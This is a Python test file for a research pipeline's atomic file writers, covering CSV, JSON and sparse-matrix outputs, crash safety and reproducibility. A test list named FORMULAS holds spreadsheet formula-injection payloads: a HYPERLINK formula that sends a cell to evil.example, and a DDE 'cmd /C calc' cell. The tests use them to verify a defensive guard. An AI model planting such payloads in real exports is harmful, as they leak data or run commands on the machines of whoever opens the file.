"""Tests for pipeline/common/atomic.py: outputs are whole or untouched, and reproducible."""

from __future__ import annotations

import io
import os

import numpy as np
import pandas as pd
import pytest
import scipy.sparse as sp
from hypothesis import given
from hypothesis import strategies as st

from pipeline.common import atomic
from pipeline.common.atomic import (
    formula_guard,
    sparse_to_npz_bytes,
    write_bytes,
    write_csv,
    write_csv_header,
    write_files,
    write_json,
    write_jsonl,
    write_text,
)
from pipeline.common.errors import PipelineError
from pipeline.common.io import iter_records, read_table


@pytest.fixture
def frame():
    return pd.DataFrame(
        {"speaker": ["岸", "上久保", "後藤"], "topic": ["科学技術", "地域", "デジタル"],
         "share": [0.5, 0.25, 1 / 3]}
    )


def test_write_csv_has_bom_and_round_trips_japanese(tmp_path, frame):
    path = tmp_path / "out" / "shares.csv"
    write_csv(path, frame)
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    assert raw.count(b"\xef\xbb\xbf") == 1
    assert b"\r\n" not in raw
    back = pd.read_csv(path, encoding="utf-8-sig")
    assert list(back.columns) == ["speaker", "topic", "share"]
    assert back["speaker"].tolist() == ["岸", "上久保", "後藤"]
    assert back["topic"].tolist() == ["科学技術", "地域", "デジタル"]
    assert back["share"].tolist() == [0.5, 0.25, 0.333333]


def test_write_csv_without_bom_for_plot_data(tmp_path, frame):
    path = tmp_path / "plot.csv"
    write_csv(path, frame, bom=False)
    raw = path.read_bytes()
    assert raw.startswith(b"speaker,topic,share\n")
    assert pd.read_csv(path, encoding="utf-8")["speaker"].tolist() == ["岸", "上久保", "後藤"]


def test_write_csv_is_byte_identical_on_rerun(tmp_path, frame):
    write_csv(tmp_path / "a.csv", frame)
    write_csv(tmp_path / "b.csv", frame)
    assert (tmp_path / "a.csv").read_bytes() == (tmp_path / "b.csv").read_bytes()


@pytest.mark.parametrize("columns", [
    ["doc_id", "meeting", "speaker", "turn", "source_id"],
    ["話者", "a,b", 'say "hi"', "line\nbreak", "=SUM(A1)", " padded "],
])
@pytest.mark.parametrize("bom", [True, False])
def test_write_csv_header_writes_what_write_csv_writes_for_no_rows(tmp_path, columns, bom):
    write_csv(tmp_path / "pandas.csv", pd.DataFrame(columns=columns), bom=bom)
    write_csv_header(tmp_path / "header.csv", columns, bom=bom)
    assert (tmp_path / "header.csv").read_bytes() == (tmp_path / "pandas.csv").read_bytes()


def _leftovers(folder, keep):
    return sorted(p.name for p in folder.iterdir() if p.name not in keep)


@pytest.mark.parametrize("error", [RuntimeError("disk full"), KeyboardInterrupt()])
def test_failing_writer_keeps_old_file_and_leaves_no_temp(tmp_path, error):
    path = tmp_path / "report.txt"
    write_text(path, "前の内容\n")

    def half_then_fail(handle):
        handle.write("途中まで")
        raise error

    with pytest.raises(type(error)):
        atomic._write_atomic(path, half_then_fail, "w")
    assert path.read_text(encoding="utf-8") == "前の内容\n"
    assert _leftovers(tmp_path, {"report.txt"}) == []


def test_failing_replace_keeps_old_file_and_leaves_no_temp(tmp_path, frame, monkeypatch):
    path = tmp_path / "shares.csv"
    write_csv(path, frame)
    before = path.read_bytes()

    def refuse(src, dst):
        raise OSError("no")

    monkeypatch.setattr(os, "replace", refuse)
    with pytest.raises(PipelineError, match=r"shares.csv: cannot write \(no\); check the file"):
        write_csv(path, frame.iloc[:1])
    monkeypatch.undo()
    assert path.read_bytes() == before
    assert _leftovers(tmp_path, {"shares.csv"}) == []


def test_failing_writer_on_new_path_creates_nothing(tmp_path):
    path = tmp_path / "new.bin"

    def fail(handle):
        handle.write(b"abc")
        raise ValueError("boom")

    with pytest.raises(ValueError):
        atomic._write_atomic(path, fail, "wb")
    assert list(tmp_path.iterdir()) == []


def test_unwritable_folder_is_a_pipeline_error(tmp_path):
    blocker = tmp_path / "file"
    blocker.write_text("x")
    from pipeline.common.errors import PipelineError

    with pytest.raises(PipelineError, match=r"file: is a file, so outputs cannot go in it"):
        write_text(blocker / "sub" / "out.txt", "x")


def test_write_json_is_stable_and_readable(tmp_path):
    write_json(tmp_path / "a.json", {"b": 1, "a": "岸"})
    text = (tmp_path / "a.json").read_text(encoding="utf-8")
    assert text == '{\n  "a": "岸",\n  "b": 1\n}\n'


@pytest.mark.parametrize("records", [[], [{"speaker": "岸", "n": 1}, {"speaker": "後藤", "n": 2}]])
def test_jsonl_round_trip(tmp_path, records):
    path = tmp_path / "docs.jsonl"
    write_jsonl(path, records)
    assert list(iter_records(path)) == records
    assert "\\u" not in path.read_text(encoding="utf-8")


def test_write_bytes_replaces_content(tmp_path):
    path = tmp_path / "x.bin"
    write_bytes(path, b"old-and-long")
    write_bytes(path, b"new")
    assert path.read_bytes() == b"new"


def _matrix():
    rng = np.random.default_rng(0)
    dense = rng.integers(0, 3, size=(6, 9)) * (rng.random((6, 9)) < 0.4)
    return sp.csr_matrix(dense.astype(np.int64))


@pytest.mark.parametrize(
    "matrix",
    [
        _matrix(),
        sp.csr_matrix((3, 4), dtype=np.float64),
        sp.csr_matrix(np.array([[0.5, 0.0], [0.0, 1.25]])),
    ],
    ids=["counts", "empty", "floats"],
)
def test_sparse_to_npz_bytes_round_trip_and_identical(matrix):
    first = sparse_to_npz_bytes(matrix)
    second = sparse_to_npz_bytes(matrix.copy())
    assert first == second
    loaded = sp.load_npz(io.BytesIO(first))
    assert loaded.format == "csr"
    assert loaded.shape == matrix.shape
    assert loaded.dtype == matrix.dtype
    assert (loaded != matrix).nnz == 0


def test_sparse_to_npz_bytes_does_not_depend_on_the_clock(monkeypatch):
    """Zip members carry a timestamp; reruns at another time must give the same bytes."""
    import time

    matrix = _matrix()
    monkeypatch.setattr(time, "time", lambda: 1_000_000_000.0)
    early = sparse_to_npz_bytes(matrix)
    monkeypatch.setattr(time, "time", lambda: 1_700_000_000.0)
    late = sparse_to_npz_bytes(matrix)
    assert early == late


def test_sparse_to_npz_bytes_accepts_other_sparse_formats():
    csr = _matrix()
    assert sparse_to_npz_bytes(csr.tocoo()) == sparse_to_npz_bytes(csr)


def test_sparse_to_npz_bytes_differs_for_different_input():
    matrix = _matrix()
    other = matrix.copy()
    other.data[0] += 5
    assert sparse_to_npz_bytes(matrix) != sparse_to_npz_bytes(other)


def test_sparse_npz_file_loads(tmp_path):
    matrix = _matrix()
    path = tmp_path / "dtm.npz"
    write_bytes(path, sparse_to_npz_bytes(matrix))
    assert (sp.load_npz(path) != matrix).nnz == 0


def _full_disk(monkeypatch):
    """Every new output file is /dev/full: writes fail with ENOSPC, as on a full disk."""
    real = os.fdopen

    def fdopen(fd, mode, **kwargs):
        os.close(fd)
        return real(os.open("/dev/full", os.O_WRONLY), mode, **kwargs)

    monkeypatch.setattr(atomic.os, "fdopen", fdopen)


@pytest.mark.skipif(not os.path.exists("/dev/full"), reason="needs /dev/full (Linux)")
def test_full_disk_is_one_line_and_keeps_the_old_file(tmp_path, frame, monkeypatch):
    path = tmp_path / "shares.csv"
    write_csv(path, frame)
    before = path.read_bytes()
    _full_disk(monkeypatch)
    with pytest.raises(PipelineError) as caught:
        write_csv(path, frame.iloc[:1])
    assert str(caught.value) == (f"{path}: cannot write (No space left on device); free some "
                                 "disk space and rerun")
    monkeypatch.undo()
    assert path.read_bytes() == before
    assert _leftovers(tmp_path, {"shares.csv"}) == []


def test_permission_denied_names_the_folder(tmp_path, monkeypatch):
    import errno

    def refuse(**kwargs):
        raise PermissionError(errno.EACCES, "Permission denied", str(tmp_path))

    monkeypatch.setattr(atomic.tempfile, "mkstemp", refuse)
    with pytest.raises(PipelineError) as caught:
        write_text(tmp_path / "out.txt", "x")
    assert str(caught.value) == (f"{tmp_path}: cannot write outputs here (Permission denied); "
                                 "check the folder's permissions")


def test_write_files_replaces_all_or_none(tmp_path, monkeypatch):
    paths = [tmp_path / f"chart{i}.png" for i in range(3)]
    write_files({p: b"old" for p in paths})
    calls = []
    real = os.replace

    def fail_on_last(src, dst):
        calls.append(dst)
        if len(calls) == 3:
            raise OSError(28, "No space left on device")
        real(src, dst)

    # A rename is the last step: every file is whole on disk before the first rename.
    monkeypatch.setattr(os, "replace", fail_on_last)
    with pytest.raises(PipelineError):
        write_files({p: b"new" for p in paths})
    monkeypatch.undo()
    assert _leftovers(tmp_path, {p.name for p in paths}) == []
    write_files({p: b"new" for p in paths})
    assert [p.read_bytes() for p in paths] == [b"new"] * 3


@pytest.mark.skipif(not os.path.exists("/dev/full"), reason="needs /dev/full (Linux)")
def test_write_files_on_a_full_disk_replaces_none(tmp_path, monkeypatch):
    paths = [tmp_path / f"chart{i}.png" for i in range(3)]
    write_files({p: b"old" for p in paths})
    _full_disk(monkeypatch)
    with pytest.raises(PipelineError, match="No space left on device"):
        write_files({p: b"new" * 10_000 for p in paths})
    monkeypatch.undo()
    assert [p.read_bytes() for p in paths] == [b"old"] * 3
    assert _leftovers(tmp_path, {p.name for p in paths}) == []


FORMULAS = ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1)", "\t=1", "'=already quoted", "''@x"]


def test_formula_cells_are_neutralised_and_read_back_as_written(tmp_path):
    import csv

    frame = pd.DataFrame({"speaker": FORMULAS + ["岸", "01"],
                          "share": [-0.5] * len(FORMULAS) + [0.25, 1.0]})
    path = tmp_path / "t.csv"
    write_csv(path, frame)
    rows = list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))
    assert [r[0] for r in rows[1:]] == ["'" + f for f in FORMULAS] + ["岸", "01"]
    assert {r[1] for r in rows[1:]} == {"-0.500000", "0.250000", "1.000000"}  # numbers stay
    back = read_table(path)
    assert back["speaker"].tolist() == frame["speaker"].tolist()
    assert back["share"].tolist() == frame["share"].tolist()


def test_formula_guard_off_writes_cells_as_they_are(tmp_path):
    frame = pd.DataFrame({"speaker": ["=1+1", "'=x"], "share": [0.5, 0.5]})
    path = tmp_path / "t.csv"
    with formula_guard(False):
        write_csv(path, frame)
        assert read_table(path)["speaker"].tolist() == ["=1+1", "'=x"]
    assert path.read_text(encoding="utf-8-sig").splitlines()[1] == "=1+1,0.500000"


def test_text_columns_keep_leading_zeros(tmp_path):
    frame = pd.DataFrame({"speaker": ["1", "01", "001"], "meeting": ["2021", "02021", "x"],
                          "n_docs": [1, 2, 3]})
    path = tmp_path / "t.csv"
    write_csv(path, frame)
    back = read_table(path)
    assert back["speaker"].tolist() == ["1", "01", "001"]
    assert back["meeting"].tolist() == ["2021", "02021", "x"]
    assert back["n_docs"].tolist() == [1, 2, 3]


def test_a_carriage_return_cannot_start_a_row(tmp_path):
    import csv

    # Unquoted, a bare \r would end the row in a spreadsheet and put `=1` in a cell of its own.
    frame = pd.DataFrame({"source_id": ["\r=1", "a\r\nb"], "n_docs": [1, 2]})
    path = tmp_path / "t.csv"
    write_csv(path, frame)
    rows = list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))
    assert rows == [["source_id", "n_docs"], ["\n=1", "1"], ["a\nb", "2"]]


@given(st.text(max_size=12))
def test_guard_is_undone_exactly(value):
    from pipeline.common.spreadsheet import TRIGGERS, guard_cell, unguard_cell

    guarded = guard_cell(value)
    assert unguard_cell(guarded) == value
    assert not guarded.startswith(TRIGGERS)


def test_writing_many_files_reads_their_folder_once(tmp_path, monkeypatch):
    # The token cache writes thousands of entries into one folder: sweeping for leftovers
    # must not read the folder once per file (that made tokenizing quadratic in chunks).
    from pipeline.common import atomic

    scans = []
    real = os.scandir

    def counting(path="."):
        scans.append(path)
        return real(path)

    monkeypatch.setattr(os, "scandir", counting)
    folder = tmp_path / "cache"
    for i in range(2000):
        atomic.write_bytes(folder / f"{i}.pkl", b"x")
    assert len(scans) <= 1
    assert len(list(folder.iterdir())) == 2000


def test_a_killed_runs_temporary_file_is_swept_once_its_target_is_written(tmp_path):
    from pipeline.common import atomic

    folder = tmp_path / "fresh"
    folder.mkdir()
    left = folder / ".shares.csv.ab12cd34.tmp"  # what a SIGKILL mid-write leaves
    other = folder / ".other.csv.zz99yy88.tmp"
    left.write_text("half", encoding="utf-8")
    other.write_text("half", encoding="utf-8")
    atomic.write_text(folder / "shares.csv", "done")
    assert not left.exists() and other.exists()
    atomic.write_text(folder / "other.csv", "done")
    assert sorted(p.name for p in folder.iterdir()) == ["other.csv", "shares.csv"]


_FLOATS = st.floats(allow_nan=True, allow_infinity=True) | st.sampled_from(
    [0.0, -0.0, 5e-7, -5e-7, 2.5e-6, 1.0000005, 123456789.1234565, 1e300])


@given(st.lists(st.tuples(_FLOATS, st.floats(width=32), st.text(max_size=4),
                          st.integers(-9, 9)),
                max_size=20), st.sampled_from(["%.6f", "%.3f", "%g"]))
def test_floats_are_written_as_pandas_writes_them(rows, float_format):
    # write_csv formats float columns itself (floats_as_text): the bytes are to_csv's.
    frame = pd.DataFrame(rows, columns=["x", "y", "name", "n"]).astype(
        {"x": "float64", "y": "float32", "n": "int64"})
    expected = frame.to_csv(index=False, float_format=float_format, lineterminator="\n")
    assert atomic.floats_as_text(frame, float_format).to_csv(
        index=False, lineterminator="\n") == expected


@given(st.lists(st.tuples(_FLOATS, st.text(max_size=4), st.integers(-9, 9), st.booleans()),
                max_size=12), st.integers(1, 5))
def test_a_table_written_in_blocks_is_the_table_written_at_once(rows, block_rows):
    # write_csv formats a block of rows at a time (bounded memory on a million documents):
    # its bytes are those of one to_csv of the whole table, header once, guard and all.
    import tempfile
    from pathlib import Path

    frame = pd.DataFrame(rows, columns=["x", "name", "n", "flag"]).astype(
        {"x": "float64", "n": "int64", "flag": "bool"})
    guarded = atomic.floats_as_text(atomic.csv_frame(frame, True), "%.6f")
    expected = "\ufeff" + guarded.to_csv(index=False, lineterminator="\n")
    with tempfile.TemporaryDirectory() as folder, pytest.MonkeyPatch.context() as patch:
        patch.setattr(atomic, "CSV_BLOCK_ROWS", block_rows)
        path = Path(folder) / "table.csv"
        write_csv(path, frame)
        assert path.read_bytes().decode("utf-8") == expected


def test_a_matrix_written_to_its_file_is_the_bytes_made_in_memory(tmp_path):
    # vectorize compresses dtm.npz straight into the file (no second copy of a large matrix
    # as bytes): the file must stay byte for byte what sparse_to_npz_bytes makes.
    matrix = sp.random(300, 40, density=0.2, format="csr", random_state=3, dtype=np.float64)
    path = tmp_path / "dtm.npz"
    atomic.write_npz(path, atomic.sparse_npz_arrays(matrix))
    assert path.read_bytes() == sparse_to_npz_bytes(matrix)
    assert (sp.load_npz(path) != matrix).nnz == 0


_JSON = st.recursive(st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False)
                     | st.text(max_size=5),
                     lambda inner: st.lists(inner, max_size=3)
                     | st.dictionaries(st.text(max_size=3), inner, max_size=3), max_leaves=8)


@given(st.lists(_JSON, max_size=6))
def test_a_list_streamed_to_json_is_the_list_written_at_once(items):
    # vectorize streams dtm_documents.json (a row per document) item by item: its bytes
    # must stay write_json's, whatever the items hold (nested lists, Japanese, newlines).
    import tempfile
    from pathlib import Path

    with tempfile.TemporaryDirectory() as folder:
        whole, streamed = Path(folder) / "whole.json", Path(folder) / "streamed.json"
        write_json(whole, items)
        atomic.write_json_list(streamed, iter(items))
        assert streamed.read_bytes() == whole.read_bytes()
